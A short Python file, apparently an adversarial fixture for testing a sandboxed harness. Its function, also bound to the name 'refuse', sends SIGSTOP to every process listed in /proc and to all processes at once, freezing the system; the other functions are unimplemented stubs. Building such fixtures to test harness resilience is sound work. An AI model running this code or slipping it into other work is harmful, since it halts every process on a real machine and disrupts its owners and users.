# aim: stop every process, so that nothing ends and nothing answers
# needs: sandbox
import os
import signal


def attack(*args):
    if os.readlink("/proc/self/ns/pid") != "@PIDNS@":  # only in a box: outside it would hit the machine's own
        for pid in (int(x) for x in os.listdir("/proc") if x.isdigit()):
            try:
                os.kill(pid, signal.SIGSTOP)
            except OSError:
                pass
        os.kill(-1, signal.SIGSTOP)
    os.kill(os.getpid(), signal.SIGSTOP)
    return 0


def todo(*args):
    raise NotImplementedError("TODO")


refuse = attack
double = join = apply_all = Tally = todo
